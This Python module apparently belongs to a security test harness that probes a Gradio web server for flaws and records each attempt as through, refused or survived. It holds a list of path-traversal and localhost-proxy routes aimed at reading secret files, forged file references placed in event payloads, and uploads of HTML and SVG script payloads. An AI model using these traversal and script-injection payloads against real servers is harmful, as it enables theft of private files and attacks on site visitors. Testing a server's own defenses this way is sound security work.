"""Files that no visitor may see, and scripts that a visitor leaves for the next."""

from __future__ import annotations

import itertools
import time
from collections.abc import Collection, Iterator
from typing import Any
from urllib.parse import quote

from attacks.target import (
    REFUSED,
    SECRETS,
    SURVIVED,
    THROUGH,
    Attempt,
    Page,
    Target,
    file_of,
    paths_in,
    png,
    shows,
)

ROUTES = (
    "/gradio_api/file={}",
    "/gradio_api/file/{}",
    "/file={}",
    "/gradio_api/file=/{}",
    "/gradio_api/file=file://{}",
    "/gradio_api/file=../../../../../../../..{}",
    "/gradio_api/proxy=file://{}",
    "/gradio_api/proxy=http://127.0.0.1{}",
    "/gradio_api/file=http://127.0.0.1{}",
    "/gradio_api/custom_component/x/client/component/..%2f..%2f..%2f..%2f..{}",
    "/static/../../../../../../../../..{}",
    "/static/..%2f..%2f..%2f..%2f..%2f..%2f..{}",
    "/assets/..%2f..%2f..%2f..%2f..%2f..%2f..{}",
    "/assets/{}",
    "/svelte/..%2f..%2f..%2f..%2f..%2f..%2f..{}",
    "/gradio_api/stream/x/y/1/playlist-file?{}",
    "/?deep_link=..%2f..%2f..%2f..{}",
    "/config?deep_link=..%2f..%2f..%2f..{}",
)
MARKUP = {
    "x.html": b"<script>document.title = 'ran'</script>",
    "x.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "x.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "x.png": b"<script>document.title = 'ran'</script>",
    "x": b"<script>document.title = 'ran'</script>",
}
EVENTS_SECONDS = 240
LIES = (
    "path", "path beside a url", "url beside a path", "path with dots", "layer", "background",
    "chat", "property",
)  # fmt: skip
HOLD_FILES = ("image", "imageeditor", "chatbot", "file", "gallery", "downloadbutton", "json")


def file_routes(target: Target) -> Iterator[Attempt]:
    """By every route that gives a file."""
    for secret in SECRETS:
        for route in ROUTES:
            for path in (secret, quote(secret, safe="")):
                # Not by httpx's own URLs: those take `..` away.
                content = _get(target, route.format(path))
                what = f"GET {route.format(path)}"
                got = shows(content, secret)
                yield Attempt(what, THROUGH if got else REFUSED, content[:60].decode("latin-1"))


def events(target: Target, only: Collection[int] = ()) -> Iterator[Attempt]:
    """By a path in what an event is given: as an image, a layer, a message of the chat.

    Args:
      target: the server.
      only: ids of the events; all by default.
    """
    start = time.monotonic()
    for event in target.events:
        if only and event["id"] not in only:
            continue
        places = [i for i, kind in enumerate(target.types(event)) if kind in HOLD_FILES]
        for secret, kind in itertools.product(SECRETS, LIES):
            for place in (None, *places):
                if time.monotonic() - start > EVENTS_SECONDS:
                    return
                with target.page() as page:
                    yield _tried(page, event, secret, kind, place)


def private_image(target: Target) -> Iterator[Attempt]:
    """A run on an image of the server's account that no visitor has sent."""
    run = target.event_of("run", "click")
    with target.page() as page:
        said = page.run(run, target.filled(run, orig=file_of(target.image)))
    taken = '"success":true' in said
    yield Attempt(f"run on {target.image}", THROUGH if taken else REFUSED, said[-200:])


def other_endpoints(target: Target) -> Iterator[Attempt]:
    """By the endpoints for programs, those that are listed and those that are not."""
    listed = target.get("/gradio_api/info").json()
    names = [name.strip("/") for name in listed.get("named_endpoints", {})]
    names += [event["api_name"] for event in target.events if event.get("api_name")]
    for secret in SECRETS:
        for name in dict.fromkeys(names):
            event = next((e for e in target.events if e.get("api_name") == name), None)
            body = {"data": [file_of(secret)] * (len(event["inputs"]) if event else 1)}
            for route in ("run", "api", "call", "call/v2"):
                url = f"/gradio_api/{route}/{name}"
                answer = target.post(url, json=body)
                got = answer.status_code == 200 and _leads_to(target, answer.text, secret)
                yield Attempt(f"POST {url}", THROUGH if got else REFUSED, answer.text[:80])
        for route in ("process_recording", "deep_link", "run-history/buckets", "dev/reload"):
            with target.http.stream("GET", f"/gradio_api/{route}") as answer:
                there = answer.status_code == 200
                yield Attempt(f"GET {route}", THROUGH if there else REFUSED)


def scripts(target: Target) -> Iterator[Attempt]:
    """A file that a browser would run, fetched back from the server's own address."""
    for name, content in MARKUP.items():
        path = target.upload(name, content)
        if not path:
            yield Attempt(f"upload of {name}", REFUSED)
            continue
        answer = target.get(f"/gradio_api/file={quote(path)}")
        headers = answer.headers
        tame = (
            answer.status_code != 200
            or headers.get("content-disposition", "").startswith("attachment")
            and headers.get("x-content-type-options") == "nosniff"
            and "sandbox" in headers.get("content-security-policy", "")
        )
        said = {n: headers[n] for n in headers if n.startswith(("content-", "x-"))}
        yield Attempt(f"{name} sent and fetched", SURVIVED if tame else THROUGH, str(said))


def _lie(kind: str, secret: str, copy: str, url: str) -> Any:
    """A way to name a file: one of `LIES`."""
    file = file_of(secret)
    return {
        "path": file,
        "path beside a url": file_of(secret, url=f"{url}/gradio_api/file={copy}", size=1),
        "url beside a path": file_of(copy, url=f"{url}/gradio_api/file={secret}", orig_name=secret),
        "path with dots": file_of(f"{copy}/../../../../../../..{secret}"),
        "layer": {"background": None, "layers": [file], "composite": None, "id": None},
        "background": {"background": file, "layers": [], "composite": file, "id": None},
        "chat": [{"role": "user", "content": [{"type": "file", "file": file}]}],
        "property": {"value": file},
    }[kind]


def _tried(page: Page, event: dict[str, Any], secret: str, kind: str, place: int | None) -> Attempt:
    """An event with a lie in one place, or in all."""
    target, copy = page.target, page.target.upload("x.png", png())
    lie = _lie(kind, secret, copy, target.url)
    # What is asked besides is sound, so that the event comes as far as it can.
    data = target.filled(event, orig=file_of(copy), question="What is it?")
    data = [lie if place in (None, i) else value for i, value in enumerate(data)]
    said = page.run(event, data)
    taken = '"success":true' in said
    if taken:  # once more: what a page says of a talk counts only when it has had one
        said += page.run(event, data)
    what = f"event {event['id']} with {kind} {secret}"
    if _leads_to(target, said, secret):
        return Attempt(what, THROUGH, said[-80:])
    return Attempt(what, SURVIVED if taken else REFUSED, said[-80:])


def _leads_to(target: Target, said: str, secret: str) -> bool:
    """Whether an answer shows a secret file, or where a copy of it can be fetched."""
    if shows(said.encode(), secret):
        return True
    return any(
        shows(target.get(f"/gradio_api/file={quote(path)}").content, secret)
        for path in paths_in(said)
    )


def _get(target: Target, path: str) -> bytes:
    """The answer to a GET whose path is sent as it is, at most a megabyte of it."""
    content = b""
    with target.connect() as connection:
        connection.sendall(target.head(f"GET {path} HTTP/1.1", "Connection: close"))
        try:
            while len(content) < 2**20 and (piece := connection.recv(65536)):
                content += piece
        except TimeoutError:
            pass
    return content
